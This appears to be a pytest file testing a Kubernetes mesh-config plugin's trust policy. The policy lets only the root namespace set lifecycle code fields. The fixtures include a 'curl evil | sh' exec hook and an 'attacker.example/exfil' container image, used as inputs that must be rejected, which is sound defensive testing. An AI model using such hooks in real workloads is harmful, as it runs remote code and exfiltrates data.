"""The trust model (core/trust.py, docs/security.md): who may put code into workloads."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from kubectl_meshcfg.cli import cli
from kubectl_meshcfg.core import trust
from kubectl_meshcfg.core.model import Origin, parse_config
from kubectl_meshcfg.core.resolve import Resolver

ROOT = Path(__file__).resolve().parents[2]
EXEC = {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}
CODE = [({"postStart": EXEC}, "lifecycle.postStart.exec"),
        ({"preStop": {"httpGet": {"port": 80, "host": "10.0.0.1"}}}, "lifecycle.preStop.httpGet"),
        ({"preStop": {"tcpSocket": {"port": 22}}}, "lifecycle.preStop.tcpSocket"),
        ({"drainAgent": {"enabled": True, "image": "attacker.example/exfil:latest"}},
         "lifecycle.drainAgent.image")]
SAFE = [{"preStop": {"sleep": {"seconds": 5}}}, {"drainAgent": {"enabled": True}},
        {"drainAgent": {"enabled": True, "minDrainDuration": "3s"}},
        {"terminationDrainDuration": "20s", "holdApplicationUntilProxyStarts": True}]


def config(namespace: str, lifecycle: dict[str, Any], name: str = "c") -> dict[str, Any]:
    return {"apiVersion": "meshcfg.io/v1alpha1", "kind": "SidecarProxyConfig",
            "metadata": {"name": name, "namespace": namespace, "creationTimestamp":
                         "2026-01-01T00:00:00Z"},
            "spec": {"lifecycle": lifecycle}}


def test_the_committed_policy_is_current() -> None:
    committed = (ROOT / "manifests" / "policy" / "meshcfg-trust.yaml").read_text()
    assert committed == trust.render(), "run scripts/gen-crd and commit the result"


@pytest.mark.parametrize(("lifecycle", "path"), CODE)
def test_code_fields_are_for_the_root_namespace_only(lifecycle: dict[str, Any], path: str) -> None:
    values = parse_config(config("dev", lifecycle), Origin("f"), "dev").values
    assert trust.code_fields(values) == [path]
    [(field, reason)] = trust.check_config("dev", values, "istio-system")
    assert field == f"spec.{path}" and "'istio-system'" in reason and "'dev'" in reason
    assert trust.check_config("istio-system", values, "istio-system") == []


@pytest.mark.parametrize("lifecycle", SAFE)
def test_timing_fields_are_allowed_anywhere(lifecycle: dict[str, Any]) -> None:
    values = parse_config(config("dev", lifecycle), Origin("f"), "dev").values
    assert trust.check_config("dev", values, "istio-system") == []


def _target() -> Any:
    from kubectl_meshcfg.core.model import parse_target  # noqa: PLC0415

    return parse_target({"apiVersion": "apps/v1", "kind": "Deployment",
                         "metadata": {"name": "web", "namespace": "dev"},
                         "spec": {"template": {"metadata": {"labels": {"app": "web"}}}}},
                        Origin("f"), "dev")


def test_sync_names_the_namespace_object_that_asked_for_code() -> None:
    evil = parse_config(config("dev", CODE[3][0], name="evil"), Origin("f"), "dev")
    admin = parse_config(config("istio-system", {"postStart": EXEC}, name="admin"),
                         Origin("f"), "istio-system")
    effective = Resolver([evil, admin]).resolve(_target())
    [reason] = trust.untrusted_sources(effective, "istio-system")
    assert reason == ("lifecycle.drainAgent.image comes from SidecarProxyConfig dev/evil, "
                      "outside the mesh root namespace 'istio-system'")
    # lint says so too (for objects that reached the cluster before the policy)
    assert [w for w in effective["warnings"] if w["code"] == "UntrustedCode"] == [
        {"code": "UntrustedCode", "message": reason}]


def test_sync_renders_code_from_the_root_namespace() -> None:
    admin = parse_config(config("istio-system", {"postStart": EXEC, **CODE[3][0]}, name="a"),
                         Origin("f"), "istio-system")
    safe = parse_config(config("dev", SAFE[0], name="timing"), Origin("f"), "dev")
    effective = Resolver([admin, safe]).resolve(_target())
    assert trust.untrusted_sources(effective, "istio-system") == []
    assert not [w for w in effective["warnings"] if w["code"] == "UntrustedCode"]


def run(*args: str, input: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), input=input)
    assert isinstance(result.exception, SystemExit | None), result.exception
    return result.exit_code, result.stderr


@pytest.mark.parametrize("command", [["apply", "--dry-run=client"], ["lint", "--local"],
                                     ["explain", "--local"]])
def test_apply_and_local_refuse_an_image_from_a_namespace_object(command: list[str]) -> None:
    text = yaml.safe_dump(config("dev", CODE[3][0], name="evil"))
    code, err = run(*command, "-f", "-", input=text)
    assert code == 1
    assert err.startswith("error: -: document 1: SidecarProxyConfig dev/evil: "
                          "spec.lifecycle.drainAgent.image: only SidecarProxyConfigs in the "
                          "mesh root namespace 'istio-system' may set")


def test_apply_accepts_code_in_the_root_namespace_and_timing_anywhere() -> None:
    text = yaml.safe_dump_all([config("istio-system", {"postStart": EXEC}, name="admin"),
                               config("dev", SAFE[0], name="timing")])
    code, err = run("apply", "--dry-run=client", "-f", "-", input=text)
    assert code == 0, err
